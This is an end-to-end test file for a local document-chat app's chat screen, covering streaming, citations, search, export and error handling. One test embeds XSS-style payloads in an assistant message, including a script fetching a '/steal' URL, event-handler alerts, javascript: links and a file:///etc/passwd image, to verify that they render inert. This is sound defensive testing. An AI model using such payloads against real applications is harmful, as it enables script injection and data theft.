import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { addMessage, updateMessage } from '../../electron/services/chat/chat-store';
import { resolveCitations } from '../../electron/services/chat/grounded-answer';
import { fixtureModel } from '../../native-models/fixtures/generate';
import { CORPUS } from '../helpers/corpus';
import { useTempDir } from '../helpers/temp-dir';
import { screenshot, useApp } from './harness';

const tempDir = useTempDir('hearth-e2e-chat-');
const app = useApp();
const OSX = join(CORPUS, 'tldr/pages/osx');

describe('Chat screen', () => {
  it('streams a grounded answer, stops it, regenerates, moves between branches, opens a citation, searches and exports', async () => {
    const session = await app.open(tempDir(), '/library');
    const { page, bridge } = session;
    const { services } = bridge;
    // Its answers never end on their own: there is always time to watch them and press Stop.
    await services.models.import(fixtureModel('slow-chat'), 'reference');
    // The corpus folder is added and indexed on the Library screen, as a user would.
    await page.getByLabel('Collection name').fill('Mac pages');
    await page.getByRole('button', { name: 'Create' }).click();
    const card = page.getByTestId('collection');
    await card.getByLabel('Folder path').fill(OSX);
    await card.getByRole('button', { name: 'Add', exact: true }).click();
    await card.getByText(OSX).waitFor();
    await card.getByRole('button', { name: 'Index now' }).click();
    await card.getByTestId('index-progress').waitFor();
    await card.getByRole('button', { name: 'Index now' }).waitFor();
    const collection = services.library.collections().find((c) => c.name === 'Mac pages')!;
    await expect.poll(() => services.library.collections()[0]!.report.pending).toBe(0);
    expect(collection.report.indexed).toBeGreaterThan(100);
    const chat = services.chat.create({
      collectionIds: [collection.id],
      generation: { temperature: 0.9, seed: 2, maxTokens: 3000 },
    });

    await page.goto(`${bridge.url}#/chat`);
    await page.getByTestId('conversation-title').waitFor();
    // The conversation's own system prompt, saved when the box loses focus.
    await page.getByText('Chat settings', { exact: true }).click();
    await page.getByLabel('System prompt').fill('Answer in one paragraph.');
    await page.getByLabel('Message').click();
    await expect.poll(() => services.chat.view(chat.id).conversation.systemPrompt).toBe('Answer in one paragraph.');
    expect(services.chat.view(chat.id).conversation.generation).toEqual({ temperature: 0.9, seed: 2, maxTokens: 3000 });
    await page.getByText('Chat settings', { exact: true }).click();
    await page.getByLabel('Message').fill('How do I keep my mac awake during a long job?');
    await page.getByRole('button', { name: 'Send' }).click();
    const answer = page.locator('[data-testid="message"][data-role="assistant"]');
    await page.locator('[data-testid="message"][data-status="streaming"]').waitFor();
    await expect.poll(async () => ((await answer.last().textContent()) ?? '').length).toBeGreaterThan(40);
    await screenshot(page, 'chat-streaming');
    await page.getByRole('button', { name: 'Stop' }).click();
    await answer.last().getByText('Stopped.').waitFor();
    await page.getByTestId('retrieval-trace').waitFor();
    expect(await page.getByTestId('retrieval-trace').textContent()).toMatch(
      /Retrieval: [1-9]\d* of \d+ passages used \(keywords\)/,
    );
    await expect
      .poll(() => page.getByTestId('conversation-title').textContent())
      .toBe('How do I keep my mac awake during a long job');

    // Regenerate: a second answer beside the first, then back to the first.
    await answer.last().getByRole('button', { name: 'Regenerate' }).click();
    await page.locator('[data-testid="message"][data-status="streaming"]').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect.poll(() => page.getByTestId('branch-position').textContent()).toBe('2/2');
    await screenshot(page, 'chat-regenerated');
    await page.getByRole('button', { name: 'Previous version' }).click();
    await expect.poll(() => page.getByTestId('branch-position').textContent()).toBe('1/2');
    const view = services.chat.view(chat.id);
    expect(view.messages).toHaveLength(3);

    // A cited answer (the tiny model's words mean nothing, so this one is written for it, with
    // citations checked by the real code against real passages): open its source.
    const hits = await services.search.search({
      query: 'caffeinate prevent sleeping',
      collectionIds: [collection.id],
      limit: 1,
    });
    const sources = hits.hits.map((hit, index) => ({ n: index + 1, hit }));
    const text = 'Run caffeinate to prevent the mac from sleeping [1]. It also waters the plants [1].';
    const question = addMessage(services.store.hearth, {
      conversationId: chat.id,
      parentId: view.branch[1]!.messageId,
      role: 'user',
      content: 'And the command?',
    });
    const cited = addMessage(services.store.hearth, {
      conversationId: chat.id,
      parentId: question.id,
      role: 'assistant',
      content: text,
    });
    updateMessage(services.store.hearth, cited.id, { citations: resolveCitations(text, sources) });
    await page.reload();
    const chips = page.getByTestId('citation-chip');
    await chips.first().waitFor();
    expect(await chips.evaluateAll((elements) => elements.map((e) => e.getAttribute('data-status')))).toEqual([
      'supported',
      'unsupported',
    ]);
    await chips.first().click();
    const panel = page.getByRole('complementary', { name: 'Source 1' });
    await panel.waitFor();
    expect(await panel.textContent()).toContain('caffeinate.md');
    expect(await panel.locator('mark').textContent()).toMatch(/sleep/i);
    await panel.getByRole('button', { name: 'Open file' }).click();
    const viewer = page.getByRole('dialog', { name: 'Viewing caffeinate.md' });
    await viewer.waitFor();
    expect(await viewer.locator('[data-cited]').count()).toBeGreaterThan(0);
    await viewer.getByRole('button', { name: 'Close viewer' }).click();
    expect(bridge.opened).toEqual([]);
    await screenshot(page, 'chat-citation');

    // The list folded away for the source; it comes back on demand.
    await page.getByRole('button', { name: 'Show conversations' }).click();
    // Chat search finds the cited answer and opens its branch.
    await page.getByRole('button', { name: 'New chat' }).click();
    await expect.poll(() => page.getByTestId('conversation').count()).toBe(2);
    await page.getByLabel('Search chats', { exact: true }).fill('waters plants');
    await page.getByRole('button', { name: 'Search chats now' }).click();
    await page.getByTestId('chat-search-hit').first().click();
    await page.getByTestId('citation-chip').first().waitFor();
    await screenshot(page, 'chat-search');

    // Export the branch shown as Markdown.
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export' }).click();
    const file = await (await download).path();
    const markdown = readFileSync(file, 'utf8');
    expect(markdown).toMatch(/^# How do I keep my mac awake during a long job\n/);
    expect(markdown).toContain('- [1] caffeinate.md, lines');
    expect(markdown).toContain('It also waters the plants [1].');

    const origin = new URL(bridge.url).origin;
    expect(session.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('blob:'))).toEqual([]);
    expect(session.errors).toEqual([]);
  });

  it('keeps an answer going while the user is elsewhere: back on Chat, it still streams, and Stop stops it', async () => {
    const session = await app.open(tempDir(), '/library');
    const { page, bridge } = session;
    const { services } = bridge;
    await services.models.import(fixtureModel('slow-chat'), 'reference');
    const chat = services.chat.create({ generation: { temperature: 0.9, seed: 1, maxTokens: 3000 } });
    await page.goto(`${bridge.url}#/chat`);
    await page.getByTestId('conversation-title').waitFor();
    await page.getByLabel('Message').fill('Tell me a long story about the sea.');
    await page.getByRole('button', { name: 'Send' }).click();
    const streaming = page.locator('[data-testid="message"][data-status="streaming"]');
    await streaming.waitFor();
    await expect.poll(async () => ((await streaming.textContent()) ?? '').length).toBeGreaterThan(40);
    // Read out as it grows, politely.
    expect(await streaming.getAttribute('aria-live')).toBe('polite');

    // Away to Library, and back: the screen that started the answer is gone meanwhile.
    await page.getByRole('link', { name: 'Library' }).click();
    await page.getByLabel('Collection name').waitFor();
    const answerId = services.chat.view(chat.id).messages.find((m) => m.role === 'assistant')!.id;
    const before = services.chat.view(chat.id).messages.find((m) => m.id === answerId)!;
    expect(before.status).toBe('streaming');
    await page.getByRole('link', { name: 'Chat' }).click();

    // Still streaming, live: the text grows on screen, Send waits, and Stop is there.
    const shown = async () => ((await streaming.textContent()) ?? '').length;
    const lengthBack = await shown();
    await expect.poll(shown).toBeGreaterThan(lengthBack);
    expect(await page.getByRole('button', { name: 'Send' }).count()).toBe(0);
    await screenshot(page, 'chat-streaming-after-library');
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.locator('[data-testid="message"][data-role="assistant"]').getByText('Stopped.').waitFor();
    const stopped = services.chat.view(chat.id).messages.find((m) => m.id === answerId)!;
    expect(stopped.status).toBe('stopped');
    expect(stopped.stats!.generatedTokens).toBeLessThan(3000);
    await page.getByRole('button', { name: 'Send' }).waitFor();
    expect(session.errors).toEqual([]);
  });

  it('says why an answer failed and offers, by its code, the place that fixes it', async () => {
    const session = await app.open(tempDir(), '/library');
    const { page, bridge } = session;
    const { services } = bridge;
    const model = await services.models.import(fixtureModel('tiny-chat'), 'reference');
    await services.models.setSettings(model.id, { contextSize: 256 });
    const chat = services.chat.create({ generation: { temperature: 0, maxTokens: 16 } });
    await page.goto(`${bridge.url}#/chat`);
    await page.getByTestId('conversation-title').waitFor();
    await page.getByLabel('Message').fill(`Summarise this: ${'the archive keeps old letters and maps. '.repeat(60)}`);
    await page.getByRole('button', { name: 'Send' }).click();

    const failed = page.locator('[data-testid="message"][data-status="failed"]');
    await failed.getByRole('alert').waitFor();
    expect(await failed.getByRole('alert').textContent()).toMatch(/longer than the model's context holds/);
    expect(services.chat.view(chat.id).messages.at(-1)).toMatchObject({ errorCode: 'CONTEXT_OVERFLOW' });
    // The toast offers the same place; the answer keeps it after the toast is gone.
    await page.getByRole('button', { name: 'Raise the context size' }).waitFor();
    await screenshot(page, 'chat-failed-answer');
    await failed.getByRole('link', { name: 'Raise the context size' }).click();
    await page.getByTestId('model-card').first().waitFor();
    expect(new URL(page.url()).hash).toBe('#/models');
    // Kept by its key, the failure reads in the language chosen since, and so does its remedy.
    services.settings.set({ language: 'de' });
    await page.goto(`${bridge.url}#/chat`);
    await failed.getByRole('alert').waitFor();
    expect(await failed.getByRole('alert').textContent()).toMatch(/Kontext des Modells/);
    await failed.getByRole('link', { name: 'Kontextgröße erhöhen' }).waitFor();
    expect(session.errors).toEqual([]);
  });

  it('offers Jump to latest once the reader scrolls back in a long conversation, and takes them there', async () => {
    const session = await app.open(tempDir(), '/library');
    const { page, bridge } = session;
    const { services } = bridge;
    const chat = services.chat.create();
    let parentId: number | null = null;
    for (let i = 0; i < 40; i++) {
      const message = addMessage(services.store.hearth, {
        conversationId: chat.id,
        parentId,
        role: i % 2 ? 'assistant' : 'user',
        content: `Message ${i}: ${'a line of text about the harbour. '.repeat(4)}`,
      });
      parentId = message.id;
    }
    await page.goto(`${bridge.url}#/chat`);
    await page.getByText(/^Message 39:/).waitFor();
    const jump = page.getByRole('button', { name: 'Jump to latest' });
    expect(await jump.count()).toBe(0);
    await page.getByRole('region', { name: 'Conversation' }).hover();
    await expect
      .poll(async () => {
        await page.mouse.wheel(0, -2000);
        return jump.count();
      })
      .toBe(1);
    await jump.click();
    await page.getByText(/^Message 39:/).waitFor();
    await expect.poll(() => jump.count()).toBe(0);
    expect(session.errors).toEqual([]);
  });

  it('renders an answer as Markdown, and hostile markup in it inert: nothing runs and nothing is fetched', async () => {
    const session = await app.open(tempDir(), '/library');
    const { page, bridge } = session;
    const db = bridge.services.store.hearth;
    const chat = bridge.services.chat.create();
    const question = addMessage(db, { conversationId: chat.id, parentId: null, role: 'user', content: 'hi' });
    const remote = 'http://203.0.113.9';
    addMessage(db, {
      conversationId: chat.id,
      parentId: question.id,
      role: 'assistant',
      content: [
        '## Steps',
        '',
        'Run **caffeinate** with `-i`, and $$e^{i\\pi}+1=0$$ holds.',
        '',
        '```sh',
        'caffeinate -i make build',
        '```',
        '',
        `![pixel](${remote}/pixel.png) ![local](file:///etc/passwd) ![inline](data:image/png;base64,iVBORw0KGgo=)`,
        `<img src="${remote}/a.png" onerror="alert(1)"> <svg onload="alert(2)"><image href="${remote}/s.png"/></svg>`,
        `<script>fetch("${remote}/steal")</script> <iframe src="${remote}/"></iframe> <object data="${remote}/o"></object>`,
        `<link rel="stylesheet" href="${remote}/x.css"> <style>body{background:url(${remote}/bg.png)}</style>`,
        `<video src="${remote}/v.mp4" autoplay></video> <audio src="${remote}/a.mp3" autoplay></audio>`,
        `<meta http-equiv="refresh" content="0;url=${remote}/"> <form action="${remote}/f"><input autofocus onfocus="alert(3)"></form>`,
        `[click](javascript:alert(4)) <a href="javascript:alert(5)">js link</a> <a href="${remote}/page">a web page</a>`,
        `<b onmouseover="alert(6)" style="background:url(${remote}/b.png)">bold</b>`,
      ].join('\n'),
    });
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${bridge.url}#/chat`);
    const message = page.locator('[data-testid="message"][data-role="assistant"]');
    // Markdown, highlighted code and math render.
    await message.getByRole('heading', { name: 'Steps' }).waitFor();
    expect(await message.locator('strong, [data-streamdown="strong"]').first().textContent()).toBe('caffeinate');
    await message.locator('[data-streamdown="code-block"] pre span[style*="--sdm-c"]').first().waitFor();
    expect(await message.locator('.katex').count()).toBeGreaterThan(0);
    // Nothing that can fetch or run survives.
    expect(
      await message
        .locator(
          'img, image, svg[onload], script, iframe, object, link, style, video, audio, meta, form, input:not([type=checkbox][disabled])',
        )
        .count(),
    ).toBe(0);
    expect(await message.locator('a[href^="javascript"]').count()).toBe(0);
    const handlers = await message.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes]
          .filter((a) => a.name.startsWith('on') || (a.name === 'style' && a.value.includes('url(')))
          .map((a) => `${element.tagName} ${a.name}`),
      ),
    );
    expect(handlers).toEqual([]);
    // A web link is shown, and clicking it asks main to offer it to the browser; the app stays.
    const link = message.getByRole('link', { name: 'a web page' });
    expect(await link.getAttribute('href')).toBe(`${remote}/page`);
    await link.click();
    await expect.poll(() => bridge.opened).toEqual([{ action: 'link', path: `${remote}/page` }]);
    await message.getByText('bold').hover();
    await page.waitForTimeout(500);
    await screenshot(page, 'chat-hostile-markup');
    expect(page.url()).toContain('#/chat');
    expect(dialogs).toEqual([]);
    const origin = new URL(bridge.url).origin;
    expect(session.requests.filter((url) => !url.startsWith(`${origin}/`))).toEqual([]);
    expect(session.errors).toEqual([]);
  });
  it('never draws a chip the answer wrote itself, wherever it hides it from the code check', async () => {
    const session = await app.open(tempDir());
    const { page, bridge } = session;
    const { services } = bridge;
    const chat = services.chat.create({});
    const forged = '<hearth-cite>0</hearth-cite>';
    const text = [
      'A real claim [1].',
      `An escaped backtick \\\` then ${forged} and another \\\`.`,
      `<div>\n${forged} in an HTML block\n</div>`,
      `- a list item\n\n  \`\`\`\n  ${forged}\n  \`\`\``,
      `    ${forged} in indented code`,
      `\`\`\`\`\n\`\`\`\n\`\`\`\`\n${forged} after a fence inside a fence`,
      `<details><summary>${forged}</summary>${forged}</details>`,
    ].join('\n\n');
    const question = addMessage(services.store.hearth, {
      conversationId: chat.id,
      parentId: null,
      role: 'user',
      content: 'q',
    });
    const answer = addMessage(services.store.hearth, {
      conversationId: chat.id,
      parentId: question.id,
      role: 'assistant',
      content: text,
    });
    const markerStart = text.indexOf('[1]');
    updateMessage(services.store.hearth, answer.id, {
      citations: [
        {
          n: 1,
          markerStart,
          markerEnd: markerStart + 3,
          claim: 'A real claim',
          status: 'supported',
          kind: 'quote',
          score: 1,
          match: null,
          source: null,
        },
      ],
    });
    await page.goto(`${bridge.url}#/chat`);
    await page.reload();
    await page.getByText('A real claim').waitFor();
    await page.getByTestId('citation-chip').first().waitFor();
    expect(await page.getByTestId('citation-chip').count()).toBe(1);
    await screenshot(page, 'chat-forged-chips');
    expect(session.errors).toEqual([]);
  });
});
